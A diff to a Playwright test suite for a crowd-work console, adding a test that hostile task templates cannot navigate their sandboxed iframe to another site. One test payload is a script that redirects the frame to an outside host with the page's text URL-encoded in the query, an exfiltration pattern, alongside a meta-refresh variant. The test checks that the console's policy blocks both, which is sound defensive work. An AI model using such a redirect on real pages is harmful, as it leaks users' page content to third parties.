@@ -134,18 +134,26 @@ def template_page(browser, template_world):
     page.on("framenavigated", lambda frame: page.frame_navigations.append(frame.url))
     # What the template's frame (a child frame) got answered, and what was refused it and why.
     page.on("requestfinished", lambda r: r.frame.parent_frame and page.frame_requests.append(r.url))
+    page.frame_requested = []  # every request of a child frame, answered or not
+    page.on("request", lambda r: r.frame.parent_frame and page.frame_requested.append(r.url))
     page.on("requestfailed", lambda r: r.frame.parent_frame and page.frame_failures.append((r.url, r.failure)))
     yield page
     context.close()
 
 
 def open_frame(page):
-    """The template's frame once its helper has run and the console has sized it to its page."""
+    """The template's frame (inside the console's host page) once its helper has run and the
+    console has sized it to its page."""
     page.wait_for_selector("gw-template-frame iframe")
-    frame = page.frame_locator("gw-template-frame iframe")
+    frame = page.frame_locator("gw-template-frame iframe").frame_locator("iframe")
     frame.locator("html[data-gw-template-ready=true]").wait_for()
     page.wait_for_selector("gw-template-frame iframe[data-sized=true]")
     return frame
+
+
+def template_frame(page):
+    """The template's own frame (its URL ends /frame)."""
+    return next(frame for frame in page.frames if frame.url.split("?")[0].endswith("/frame"))
 
 
 def test_a_template_answers_and_the_answer_reaches_the_assignment(template_world, template_page, console_worker):
@@ -199,8 +207,51 @@ def test_a_hostile_template_cannot_read_cookies_call_the_api_or_reach_outside(
     assert outside.paths == []
     assert page.frame_requests and not [url for url in page.frame_requests if "/api/" in url or outside.url in url]
     assert (f"{outside.url}/pixel.png", "csp") in page.frame_failures  # refused by the policy
-    assert page.frames[1].evaluate("origin") == "null"
+    assert template_frame(page).evaluate("origin") == "null"
 
     # and its answer still goes only through the console, for this assignment
     frame.get_by_role("button", name="Send").click()
     assert answer_of(template_world, batch_id, page) == {"note": "I tried"}
+
+
+NAVIGATIONS = {
+    "script": '<script>location = "{url}/navigated?" + encodeURIComponent(document.body.innerText);</script>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}/refreshed">',
+}
+
+
+@pytest.fixture
+def http_frames_allowed(template_world):
+    """The console restarted with ``MTURK_EXTERNAL_URL_ALLOW_HTTP``: its pages then allow http
+    frames as they do https ones, so a site on 127.0.0.1 stands for any https site."""
+    template_world.env["MTURK_EXTERNAL_URL_ALLOW_HTTP"] = "true"
+    template_world.restart()
+    return template_world
+
+
+@pytest.mark.parametrize("how", sorted(NAVIGATIONS))
+def test_the_template_frame_cannot_navigate_itself_to_another_site(
+    http_frames_allowed, template_page, console_worker, outside, how
+):
+    # given: the console's pages allow other sites' frames (for MTurk ExternalQuestions), and a
+    # template that navigates its own frame to another site as soon as it loads
+    page = template_page
+    http_frames_allowed.start_job(how, f"<h2>Please label</h2>\n{NAVIGATIONS[how].format(url=outside.url)}")
+    sign_in(page, console_worker)
+    console_policy = page.evaluate("fetch('/console/work').then((r) => r.headers.get('content-security-policy'))")
+    assert "frame-src 'self' https: http:" in console_policy
+
+    # when: the worker is shown the task
+    start_working(page)
+    wait_for_task(page, f"Template {how}")
+    page.wait_for_selector("gw-template-frame iframe")
+    for _ in range(100):
+        if any("frame-src" in message for message in page.console_errors):
+            break
+        page.wait_for_timeout(100)
+    screenshot(page, f"template-navigation-{how}")
+
+    # then: the host page's frame-src refused the navigation; the other site got nothing
+    assert outside.paths == []
+    assert any("frame-src" in message for message in page.console_errors), page.console_errors
+    assert not [url for url in page.frame_requested if url.startswith(outside.url)]
